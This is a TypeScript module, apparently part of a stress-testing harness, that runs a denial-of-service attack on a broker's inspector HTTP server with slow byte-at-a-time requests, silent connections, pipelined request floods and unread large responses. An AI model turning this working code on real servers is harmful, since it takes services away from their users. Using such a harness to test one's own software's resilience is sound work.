import { connect, type Socket } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import type { Attack, Target } from './attack.ts'

/** Requests that are sent in one go: about as many as one read of the broker's brings. */
const requestsAtOnce = 1000

/** How one connection is used: what it sends first, what it sends again and again, and whether it reads. */
interface Use {
  first(host: string): string
  readonly again?: (host: string) => string
  readonly pauseMs: number
  readonly reads: boolean
}

const get = (path: string) => (host: string) => `GET ${path} HTTP/1.1\r\nHost: ${host}\r\n\r\n`

/** One connection after the other takes the next of them. */
const uses: readonly Use[] = [
  // Says nothing at all.
  { first: () => '', pauseMs: 1000, reads: true },
  // Asks a byte at a time.
  { first: () => 'GET /status HTTP/1.1\r\nX: ', again: () => 'x', pauseMs: 500, reads: true },
  // Asks for what takes work, as fast as it is answered, and many at once.
  { first: get('/status'), again: host => get('/status')(host).repeat(requestsAtOnce), pauseMs: 100, reads: true },
  {
    first: get('/metrics'),
    again: host => `GET /metrics HTTP/1.1\r\nHost: ${host}\r\nCache-Control: no-cache\r\n\r\n`,
    pauseMs: 5,
    reads: true,
  },
  // Asks for the largest answers, and reads none of them.
  { first: host => get('/inspector/layout-worker.js')(host).repeat(100), pauseMs: 1000, reads: false },
  // Looks on, and reads nothing; looks on, and leaves at once.
  { first: get('/inspector/live'), pauseMs: 1000, reads: false },
  { first: get('/inspector/live'), pauseMs: 0, reads: true },
]

/** What is done to the HTTP server. */
export const httpAttack: Attack = {
  name: 'http',
  description:
    'holds connections to the inspector that ask slowly, ask too much or read nothing, so that nobody else is answered',
  async run(target, connections, signal) {
    const sockets = new Set<Socket>()
    signal.addEventListener('abort', () => {
      for (const socket of sockets) socket.destroy()
    })
    await Promise.all(
      Array.from({ length: connections }, async (_, place) => {
        for (let round = place; !signal.aborted; round++) {
          await connectOnce(target, uses[round % uses.length] as Use, sockets)
          // Who is refused at once need not be the load of this machine.
          await sleep(5)
        }
      }),
    )
  },
}

/** Uses one connection until it is closed: by the broker, or after ten seconds at the latest. */
async function connectOnce(target: Target, use: Use, sockets: Set<Socket>): Promise<void> {
  const socket = connect(target.http, target.host)
  sockets.add(socket)
  socket.on('error', () => {})
  const closed = new Promise(resolve => socket.on('close', resolve))
  const timer = setTimeout(() => socket.destroy(), 10_000)
  attack(socket, `${target.host}:${target.http}`, use)
  await closed
  clearTimeout(timer)
  sockets.delete(socket)
}

async function attack(socket: Socket, host: string, { first, again, pauseMs, reads }: Use): Promise<void> {
  if (reads) socket.resume()
  else socket.pause()
  socket.write(first(host))
  if (pauseMs === 0) {
    socket.once('data', () => socket.destroy())
    return
  }
  while (!socket.destroyed) {
    await sleep(pauseMs)
    if (again !== undefined && socket.writableLength === 0) socket.write(again(host))
  }
}
